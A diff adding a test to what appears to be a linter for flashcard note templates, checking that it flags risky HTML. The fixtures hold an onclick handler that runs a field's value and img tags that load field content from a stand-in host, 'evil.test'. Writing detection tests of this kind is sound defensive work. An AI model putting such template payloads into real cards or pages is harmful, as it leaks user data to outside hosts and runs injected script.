@@ -381,6 +381,13 @@ def test_harmless_templates_give_no_such_finding(make_project: MakeProject, run:
     assert re.findall(rf".*(?:{RISKS}).*", report) == []
 
 
+def test_an_attribute_that_runs_what_a_field_holds_is_told_of_both(make_project: MakeProject, run: Run):
+    front = '<p onclick="new Audio(\'{{Word}}\').play()">x</p><img src="//evil.test/{{Word}}">{{Word}}'
+    report = run("check", make_project(note_types([front], [""]))).stdout
+    found = re.findall(r"define\.front\.html:\S+: warning (\S+)", report)
+    assert sorted(found) == [*["notetype-field-in-tag"] * 2, "notetype-remote", "notetype-script"]
+
+
 def test_what_stands_behind_a_sign_that_is_no_tag_is_read(make_project: MakeProject, run: Run):
     front = '<p>a<b</p>\n<p class="a"id="b"><img src="https://evil.test/x">{{Word}}</p>'
     report = run("check", make_project(note_types([front], [""]))).stdout
